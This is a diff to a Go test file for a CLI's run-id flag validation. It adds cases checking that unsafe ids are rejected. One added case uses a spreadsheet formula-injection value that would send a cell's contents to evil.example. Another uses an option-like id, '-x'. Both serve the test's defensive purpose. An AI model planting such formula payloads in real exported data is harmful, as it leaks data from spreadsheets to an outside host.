@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -52,7 +53,10 @@ func TestRunShardFlags(t *testing.T) {
 		{[]string{"--shard", "-1/3", "--start-at", "+10s"}, `--shard "-1/3"`},
 		{[]string{"--shard", "1", "--start-at", "+10s"}, `--shard "1"`},
 		{[]string{"--shard", "0/2", "--start-at", "noon"}, `--start-at "noon"`},
-		{[]string{"--run-id", "a\tb"}, "--run-id must be at most 200 bytes with no control characters"},
+		{[]string{"--run-id", "a\tb"}, "--run-id must be 1 to 128 letters, digits, '.', '_' or '-', starting with a letter or a digit"},
+		// -o in a temporary directory: were the id accepted, the run would start.
+		{[]string{"--run-id", `=HYPERLINK("http://evil.example/?"&A3,"open")`, "--step-users", "1", "--max-users", "1", "--step-time", "1s", "-o", filepath.Join(t.TempDir(), "r.parquet")}, "--run-id must be 1 to 128 letters"},
+		{[]string{"--run-id", "-x", "--step-users", "1", "--max-users", "1", "--step-time", "1s", "-o", filepath.Join(t.TempDir(), "r.parquet")}, "--run-id must be 1 to 128 letters"},
 	} {
 		var out, errOut bytes.Buffer
 		code := Main(context.Background(), append([]string{"run"}, tc.args...), nil, &out, &errOut)
